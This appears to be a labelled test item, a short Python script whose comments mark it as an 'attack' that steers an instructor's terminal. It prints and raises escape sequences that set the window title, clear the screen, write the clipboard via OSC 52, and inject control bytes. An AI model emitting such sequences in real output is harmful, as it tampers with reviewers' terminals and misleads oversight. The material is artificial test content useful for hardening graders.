# attack: printed text carries codes that steer the instructor's terminal
# wants: feedback
# grade: 0
# honest: 0
# %%
import os, sys
codes = "\x1b]0;ZOO\x07\x1b[2J\x1b[1;1H\x1b]52;c;WHAT\x07\x9b31m\x08\x08\x00"
print(codes)
print(codes, file=sys.stderr)
os.write(1, codes.encode())
os.write(2, codes.encode())
raise RuntimeError(codes)
